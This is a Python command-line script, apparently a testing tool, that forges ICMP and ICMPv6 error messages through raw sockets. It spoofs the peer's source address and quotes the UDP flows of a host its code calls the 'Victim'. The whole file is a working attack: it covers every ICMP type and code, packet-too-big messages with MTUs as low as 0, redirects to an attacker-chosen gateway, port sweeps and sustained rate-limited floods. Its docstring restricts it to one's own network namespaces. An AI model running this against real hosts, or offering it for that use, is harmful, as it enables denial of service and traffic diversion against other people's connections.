#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""ICMP messages about datagrams that their receiver may have sent, as anybody can forge them.

    forge_icmp.py --to A:PORT --peer B:PORT [--from ADDRESS] [--gateway ADDRESS]
                  [--kinds all|mtu|TYPE/CODE] [--every-port] [--mtu N] [--rate N] [--count N | --seconds S]

Each message goes to address A and quotes a datagram from A:PORT to B:PORT: its IP and UDP headers and
no more.  --to and --peer may be given several times, and belong together in their order; PORT may be
a list 5000,5001.  IPv4, or IPv6 in brackets.  --from: the address that the messages have; else B's,
whose word weighs most.  --gateway: to which redirects lead; else --from's.

--kinds: every type and code (all), one, or "fragmentation needed" and "packet too big" (mtu), whose
MTU is --mtu or else runs from 0 to 1400.  --every-port: one port after the other, from A's PORT on, 1
after 65535.  How many it sent, and the seconds, are printed at the end, also on SIGTERM.  Only for namespaces of one's own.
"""

import argparse
import itertools
import signal
import socket
import struct
import sys
import time

MTUS = (1280, 0, 68, 256, 552, 576, 1300, 1400)  # the first one is believed in IPv6, too
UDP = 17
ICMP = 1
ICMP6 = 58
UNREACHABLE, QUENCH, REDIRECT = 3, 4, 5  # of ICMP
TOO_BIG6, REDIRECT6 = 2, 137  # of ICMPv6
NEEDED = 4  # code of UNREACHABLE
# Types that quote a datagram have all codes that are assigned and some that are not; others one.
KINDS4 = ([(UNREACHABLE, code) for code in range(17)] + [(QUENCH, 0)]
          + [(REDIRECT, code) for code in range(5)] + [(11, code) for code in range(3)]
          + [(12, code) for code in range(4)])
KINDS4 += [(kind, 0) for kind in range(256) if kind not in (3, 4, 5, 8, 11, 12)]
KINDS6 = ([(1, code) for code in range(9)] + [(TOO_BIG6, code) for code in range(2)]
          + [(3, code) for code in range(3)] + [(4, code) for code in range(4)])
KINDS6 += [(kind, 0) for kind in range(256) if kind not in (1, 2, 3, 4, 128)]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip4(source, target, protocol, body, length=None):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length or 20 + len(body), 1, 0x4000, 64, protocol, 0,
                       source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ip6(source, target, protocol, body, length=None):
    return struct.pack("!IHBB", 6 << 28, length or len(body), protocol, 255) + source + target + body


class Victim:
    """Whoever is to believe it: `address` sends from `ports` to `peer`, from each to each of its."""

    def __init__(self, own, other, source, gateway):
        (family, self.address, ports), (family2, self.peer, peers) = own, other
        if family != family2:
            sys.exit("forge_icmp: one of IPv4 and one of IPv6")
        self.v6 = family == socket.AF_INET6
        self.source = socket.inet_pton(family, source) if source else self.peer
        self.gateway = socket.inet_pton(family, gateway) if gateway else self.source
        self.pairs = list(itertools.product(ports, peers))
        self.sockaddr = (socket.inet_ntop(family, self.address), 0)

    def message(self, kind, code, mtu, port, peer_port):
        udp = struct.pack("!HHHH", port, peer_port, 1452, 0)
        if not self.v6:
            rest = struct.pack("!HH", 0, mtu) if (kind, code) == (UNREACHABLE, NEEDED) else b"\0" * 4
            if kind == REDIRECT:
                rest = self.gateway
            body = rest + ip4(self.address, self.peer, UDP, udp, 1472)
            head = struct.pack("!BBH", kind, code, 0)
            body = head[:2] + struct.pack("!H", checksum(head + body)) + body
            return ip4(self.source, self.address, ICMP, body)
        rest = struct.pack("!I", mtu) if kind == TOO_BIG6 else b"\0" * 4
        quoted = ip6(self.address, self.peer, UDP, udp, 1452)
        if kind == REDIRECT6:  # the better next hop, the destination, option 4: the packet
            quoted = self.gateway + self.peer + struct.pack("!BB6x", 4, (8 + len(quoted)) // 8) + quoted
        body = struct.pack("!BBH", kind, code, 0) + rest + quoted
        pseudo = self.source + self.address + struct.pack("!II", len(body), ICMP6)
        body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
        return ip6(self.source, self.address, ICMP6, body)

    def messages(self, kinds, mtus, every_port):
        """One after the other, for ever."""
        if kinds == "all":
            of = KINDS6 if self.v6 else KINDS4
        elif kinds == "mtu":
            of = [(TOO_BIG6, 0)] if self.v6 else [(UNREACHABLE, NEEDED)]
        else:
            of = [tuple(int(number) for number in kinds.split("/"))]
        pairs = itertools.cycle(
            [(1 + (self.pairs[0][0] - 1 + n) % 65535, self.pairs[0][1]) for n in range(65535)]
            if every_port else self.pairs)
        for mtu in itertools.cycle(mtus):
            for kind, code in of:
                yield self.message(kind, code, mtu, *next(pairs))


def address(text):
    host, _, ports = text.rpartition(":")
    family = socket.AF_INET6 if host.startswith("[") else socket.AF_INET
    return family, socket.inet_pton(family, host.strip("[]")), [int(port) for port in ports.split(",")]


def flags():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--to", action="append", required=True)
    parser.add_argument("--peer", action="append", required=True)
    parser.add_argument("--from", dest="source")
    parser.add_argument("--gateway")
    parser.add_argument("--kinds", default="all")
    parser.add_argument("--every-port", action="store_true")
    parser.add_argument("--mtu", type=int)
    parser.add_argument("--rate", type=int, default=1000)
    parser.add_argument("--count", type=int)
    parser.add_argument("--seconds", type=float, default=3600)
    args = parser.parse_args()
    if len(args.to) != len(args.peer):
        parser.error("as many --peer as --to")
    return args


def stop(*_):
    raise KeyboardInterrupt


def main():
    args = flags()
    victims = [Victim(address(to), address(peer), args.source, args.gateway)
               for to, peer in zip(args.to, args.peer)]
    raw = {False: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
           True: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)}
    mtus = MTUS if args.mtu is None else (args.mtu,)
    turns = itertools.cycle([(victim, victim.messages(args.kinds, mtus, args.every_port))
                             for victim in victims])
    signal.signal(signal.SIGTERM, stop)
    sent, since = 0, time.monotonic()
    try:
        while args.count is None or sent < args.count:
            now = time.monotonic() - since
            if now >= args.seconds:
                break
            if sent > now * args.rate:
                time.sleep(0.001)
                continue
            victim, messages = next(turns)
            raw[victim.v6].sendto(next(messages), victim.sockaddr)
            sent += 1
    except KeyboardInterrupt:
        pass
    print(sent, "%.3f" % (time.monotonic() - since))


main()
